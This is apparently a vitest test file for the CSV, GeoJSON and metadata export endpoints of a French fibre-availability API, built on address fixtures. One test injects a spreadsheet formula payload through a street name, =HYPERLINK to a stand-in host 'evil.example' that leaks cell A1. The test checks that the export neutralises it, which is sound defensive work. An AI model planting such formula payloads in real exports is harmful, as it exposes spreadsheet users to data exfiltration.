import { parse } from "csv-parse/sync";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { runImport } from "@/lib/import/run-import";
import { toReferenceData } from "@/lib/reference/decoupage";
import { loadReferenceData } from "@/lib/reference/load-reference-data";
import { BAL_13_HEADER, BAN_HEADER, IPE_HEADER, bal13Line, banLine, ipeLine, writeImportFile } from "@/lib/testing/import-files";
import { validated } from "@/lib/testing/openapi";
import { referenceFixture } from "@/lib/testing/reference-fixture";
import { GET as getCsv } from "./availability.csv/route";
import { GET as getGeoJson } from "./availability.geojson/route";
import { GET as getMetadata } from "./metadata/route";

beforeAll(async () => {
  await loadReferenceData(db, toReferenceData(referenceFixture()));
  await runImport("ban", writeImportFile("adresses-export.csv", [
    BAN_HEADER,
    banLine({ id: "01053_0150_00012", numero: "12", lon: "5.2256", lat: "46.2046" }),
    banLine({ id: "01053_0150_00014", numero: "14", rep: "bis", lon: "5.2260", lat: "46.2049" }),
    banLine({ id: "01002_w4ld4h_00006", numero: "6", nom_voie: 'Place du Pese "Lait"' , code_postal: "01640", nom_commune: "L'Abergement-de-Varey", lon: "5.4251", lat: "46.0054" }),
  ]), { triggeredBy: "test" });
  await runImport("ipe", writeImportFile("LIAIN_01_SIEA_PM_IPEZMD_V20_20261115_00_PBOOK.csv", [
    IPE_HEADER,
    ipeLine({ id: "IMB/12", numero: "12", typeVoie: "AV", nomVoie: "D ALSACE LORRAINE", dateMes: "20240101", fibreDediee: "O" }),
    ipeLine({ id: "IMB/14", etat: "EN COURS DE DEPLOIEMENT", numero: "14", complement: "B", typeVoie: "AV", nomVoie: "D ALSACE LORRAINE", dateMes: "20270301" }),
  ]), { triggeredBy: "test" });
});

const call = (handler: typeof getCsv, path: string, query: string) =>
  validated(handler(new NextRequest(`http://localhost${path}${query}`), { params: Promise.resolve({}) }), path);

describe("exports", () => {
  it("streams a commune's availability as CSV (;, UTF-8 with BOM) with documented columns", async () => {
    const response = await call(getCsv, "/api/v1/exports/availability.csv", "?commune=01053");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="fibre-pro-commune-01053-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get("link")).toBe('</api/v1/exports/metadata?commune=01053>; rel="describedby"');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    const rows = parse(text, { delimiter: ";", columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((row) => row.ban_id)).toEqual(["01053_0150_00012", "01053_0150_00014"]);
    expect(rows[0]).toMatchObject({
      libelle: "12 Avenue d'Alsace-Lorraine, 01000 Bourg-en-Bresse",
      code_insee: "01053",
      ftth_statut: "DEPLOYE",
      ftth_date: "2024-01-01",
      ftth_source: "IPE LIAIN",
      ftth_date_source: "2026-11-15",
      ftte_statut: "DEPLOYE",
      ftto_statut: "",
      ftth_niveau: "AVAILABLE",
      ftth_base: "SOURCE",
      ftto_niveau: "ON_REQUEST",
      ftto_base: "GENERAL_RULE",
    });
    expect(rows[1]).toMatchObject({ suffixe: "bis", ftth_niveau: "PLANNED", ftth_statut: "EN_COURS", ftth_date: "2027-03-01", ftth_precision: "DAY", ftte_niveau: "NOT_ANNOUNCED", ftte_base: "NONE", ftte_statut: "" });
  });

  it("quotes what needs quoting", async () => {
    const text = await (await call(getCsv, "/api/v1/exports/availability.csv", "?commune=01002")).text();
    const [row] = parse(text, { delimiter: ";", columns: true, bom: true }) as Record<string, string>[];
    expect(row!.voie).toBe('Place du Pese "Lait"');
  });

  it("writes spreadsheet formulas from a BAL's voie_nom as text, plain numbers as numbers", async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")';
    const imported = await runImport("bal", writeImportFile("bal-76575.csv", [
      BAL_13_HEADER,
      bal13Line({ cle: "76575_0010_00001", voie: `"${hyperlink.replace(/"/g, '""')}"`, numero: "1", long: "-4.4861", lat: "45.4771" }),
      bal13Line({ cle: "76575_0011_00002", voie: "@SUM(1+1)", numero: "2", long: "4.5021", lat: "45.4772" }),
    ]), { triggeredBy: "test" });
    expect(imported.counts).toMatchObject({ created: 2, rejected: 0 });
    const text = await (await call(getCsv, "/api/v1/exports/availability.csv", "?commune=76575")).text();
    const rows = parse(text, { delimiter: ";", columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((row) => row.voie)).toEqual([`'${hyperlink}`, "'@SUM(1+1)"]);
    expect(rows.map((row) => row.libelle)).toEqual([`1 ${hyperlink}, 76800 Bourg-en-Bresse`, "2 @SUM(1+1), 76800 Bourg-en-Bresse"]);
    expect(rows[0]!.lon).toBe("-4.4861");
    for (const line of text.split("\n").slice(1)) expect(line).not.toMatch(/(^|;)"?[=@+]/);
  });

  it("streams GeoJSON with its metadata: licence, sources and dates, generation date", async () => {
    const response = await call(getGeoJson, "/api/v1/exports/availability.geojson", "?epci=244200770");
    expect(response.status).toBe(200);
    const empty = await response.json();
    expect(empty).toMatchObject({ type: "FeatureCollection", features: [] });

    const body = await (await call(getGeoJson, "/api/v1/exports/availability.geojson", "?commune=01053")).json();
    expect(body.metadata).toMatchObject({
      territory: { kind: "commune", id: "01053", name: "Bourg-en-Bresse" },
      licence: { name: "Licence Ouverte / Open Licence 2.0 (Etalab)" },
      sources: [{ name: "IPE LIAIN", date: "2026-11-15" }],
    });
    expect(Date.parse(body.metadata.generatedAt)).not.toBeNaN();
    expect(body.features).toHaveLength(2);
    expect(body.features[0]).toMatchObject({
      type: "Feature",
      id: "01053_0150_00012",
      geometry: { type: "Point", coordinates: [5.2256, 46.2046] },
      properties: { technologies: { FTTH: { level: "AVAILABLE", basis: "SOURCE", status: "DEPLOYE", source: "IPE LIAIN" }, FTTO: { level: "ON_REQUEST", basis: "GENERAL_RULE", status: null } } },
    });
  });

  it("describes an export", async () => {
    const body = await (await call(getMetadata, "/api/v1/exports/metadata", "?commune=01053")).json();
    expect(body.files).toEqual({ csv: "/api/v1/exports/availability.csv?commune=01053", geojson: "/api/v1/exports/availability.geojson?commune=01053" });
    expect(body.csv.columns.map((column: { name: string }) => column.name).slice(0, 3)).toEqual(["ban_id", "libelle", "numero"]);
  });

  it.each([["", "commune"], ["?commune=01053&zone=x", "commune"], ["?commune=1", "commune"], ["?epci=12", "epci"]])(
    "refuses %s with a 400 problem+json",
    async (query, name) => {
      const response = await call(getCsv, "/api/v1/exports/availability.csv", query);
      expect(response.status).toBe(400);
      expect((await response.json()).invalid_params.map((param: { name: string }) => param.name)).toContain(name);
    },
  );

  it("answers 404 for an unknown territory", async () => {
    expect((await call(getCsv, "/api/v1/exports/availability.csv", "?commune=99999")).status).toBe(404);
    expect((await call(getGeoJson, "/api/v1/exports/availability.geojson", "?zone=nope")).status).toBe(404);
  });
});
